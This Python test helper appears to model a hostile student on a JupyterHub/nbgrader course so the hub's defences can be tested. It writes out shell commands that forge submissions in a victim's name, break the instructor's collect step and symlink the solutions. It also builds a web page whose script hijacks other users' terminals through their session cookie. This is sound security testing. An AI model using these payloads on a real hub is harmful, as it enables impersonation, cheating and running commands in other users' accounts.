"""What a hostile learner does to a class on the hub, for tests/test_hub.py to type or serve as
that learner: leave entries in the exchange's inbound/ for the instructor's collect, and serve a
page, from the one origin every server shares, that acts in the visitor's name."""
from __future__ import annotations

import base64
from pathlib import Path

from classroom import UNIT

LATER = "2099-01-01 00:00:00.000000 UTC"   # newer than any honest submission, so nbgrader would pick it


def inbound_attacks(exchange: Path, victim: str, solutions: Path) -> list[str]:
    """Commands for the attacker's own terminal:
    - a submission in the victim's name (nbgrader submit --student), newer than theirs;
    - an entry whose name is no time (nbgrader's collect stopped on it, for everyone);
    - the attacker's own entry holding links to the instructor's solutions and to /dev/urandom."""
    course = exchange / "attention-course"
    return [
        f"mkdir -p ~/fake && cd ~/fake && cp -r {course}/outbound/{UNIT} . "
        f"&& python -m nbgrader submit {UNIT} --student {victim}",
        f"mkdir '{course}/inbound/zz+{UNIT}+not-a-date+x'",
        f'D="{course}/inbound/$USER+{UNIT}+{LATER}+links"; mkdir "$D" && ln -s {solutions} "$D/{UNIT}.ipynb" '
        f'&& ln -s /dev/urandom "$D/data.bin" && echo "{LATER}" > "$D/timestamp.txt"',
    ]


def served_page(visitor_targets: list[tuple[str, str]], mark: str) -> str:
    """A page that, opened by someone logged in to the hub, tries to act as them: a terminal of
    each (user, terminal name) target over its WebSocket with the visitor's cookie (typing a
    command that leaves a file named `mark`-USER in /tmp), and a terminal made over the REST API.
    It writes what it achieved into `window.outcome`, every answer into `window.events`, and sets
    `window.finished`."""
    targets = ",".join(f"['{user}','{name}']" for user, name in visitor_targets)
    return f"""<!doctype html><title>my notes</title><script>
window.outcome = [], window.events = [];
const tries = [{targets}].map(([user, name]) => new Promise(done => {{
  const scheme = location.protocol === "https:" ? "wss" : "ws";
  const socket = new WebSocket(`${{scheme}}://${{location.host}}/user/${{user}}/terminals/websocket/${{name}}`);
  socket.onopen = () => {{ socket.send(JSON.stringify(["stdin", "touch /tmp/{mark}-$(whoami)\\r"]));
                          window.outcome.push(`websocket of ${{user}} opened`); setTimeout(done, 500); }};
  socket.onclose = (event) => {{ window.events.push(`websocket of ${{user}} closed: ${{event.code}}`); done(); }};
}}));
tries.push(...[{targets}].map(([user]) => fetch(`/user/${{user}}/api/terminals`, {{method: "POST"}})
  .then(answer => {{ window.events.push(`terminal of ${{user}}: ${{answer.status}}`);
                    if (answer.ok) window.outcome.push(`terminal of ${{user}} made`); }}).catch(() => null)));
Promise.all(tries).then(() => {{ window.finished = true; }});
</script>"""


def user_config_serving(page: str) -> str:
    """A learner's own ~/.jupyter/jupyter_server_config.py that makes their server answer `page` at
    /user/NAME/hello, without login."""
    return f'''import tornado.web
from jupyter_server.serverapp import ServerApp

PAGE = {page!r}


class Hello(tornado.web.RequestHandler):
    def get(self):
        self.finish(PAGE)


_init_webapp = ServerApp.init_webapp


def init_webapp(self):
    _init_webapp(self)
    self.web_app.add_handlers(".*", [(self.base_url + "hello", Hello)])


ServerApp.init_webapp = init_webapp
'''


def write_file(path: str, text: str) -> str:
    """A shell command that writes `text` to `path` (typed into a terminal in one line)."""
    encoded = base64.b64encode(text.encode()).decode()
    return f"mkdir -p $(dirname {path}) && echo {encoded} | base64 -d > {path}"


# For the Autograde refusal: the right edge of each of its lines against its box's, in Formgrader's
# error modal (a line wider than the box is cut off at its edge).
FITS = """(lines) => [...document.querySelectorAll('#error-modal pre')].flatMap(pre => {
  const text = [...pre.childNodes].find(node => node.nodeType === Node.TEXT_NODE);
  const edge = pre.getBoundingClientRect().right - parseFloat(getComputedStyle(pre).paddingRight);
  return text ? lines.filter(line => text.data.includes(line)).map(line => {
    const range = document.createRange(), at = text.data.indexOf(line);
    range.setStart(text, at); range.setEnd(text, at + line.length);
    return [line, range.getBoundingClientRect().right <= edge + 1];
  }) : [];
})"""
